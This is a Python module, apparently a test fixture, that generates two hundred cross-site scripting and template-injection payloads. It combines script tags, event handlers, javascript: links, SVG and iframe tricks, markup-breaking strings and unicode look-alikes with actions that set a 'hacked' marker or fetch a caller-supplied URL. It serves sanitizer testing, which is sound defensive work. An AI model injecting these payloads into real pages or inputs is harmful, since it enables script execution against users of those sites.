"""Two hundred texts of our own making that try to become markup, script, a link or a template. All name `hacked`."""

from __future__ import annotations

# What would run: {n} is the payload's number, {url} an address that must never be asked for.
_ACTS = (
    "window.hacked={n}",
    "parent.hacked={n};top.hacked={n}",
    "fetch('{url}')",
    "new Image().src='{url}'",
    "import('{url}')",
    "document.title='hacked'",
    "eval('window.hacked={n}')",
    "open('{url}');alert({n})",
)
# Where it hides.
_SHAPES = (
    "<script>{act}</script>",
    '<img src=x onerror="{act}">',
    "<svg onload={act}>",
    '<svg><script href="data:text/javascript,{act}"/></svg>',
    '<a href="javascript:{act}">click</a>',
    "[click](javascript:{act})",
    '![x]({url} "onerror={act}")',
    '"><script>{act}</script>',
    "'-{act}-'",
    "</script><script>{act}</script>",
    "</textarea></title></style><img src={url} onerror={act}>",
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object><embed src="{url}">',
    '<link rel=stylesheet href="{url}"><style>@import "{url}";</style>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<form action="{url}"><button formaction="javascript:{act}">x</button></form>',
    "<details open ontoggle={act}>x</details>",
    '<math><mtext><table><mglyph><style><img src=x onerror="{act}">',
    "${{{act}}} {{{{constructor.constructor('{act}')()}}}} <%= {act} %>",
    "&lt;script&gt;{act}&lt;/script&gt; \\u003cscript\\u003e{act}",
    "<body onpageshow={act}><base href={url}>",
    '<div style="background:url({url})" onpointerenter="{act}">x</div>',
    '<p data-x="]]>" id="question" class="welcome" onfocus={act} autofocus tabindex=0>x',
    "\u202e<ſcript>{act}</ſcript>\u2066 ＜script＞{act}＜/script＞",
)


def payloads(url: str) -> tuple[str, ...]:
    """Two hundred payloads; what they would load comes from `url`."""
    made = []
    for n, (shape, act) in enumerate((shape, act) for shape in _SHAPES for act in _ACTS):
        run = act.format(n=n, url=f"{url}/{n}")
        made.append(f"p{n} hacked {shape.format(act=run, url=f'{url}/{n}')}")
    assert len(set(made)) == 200
    return tuple(made)
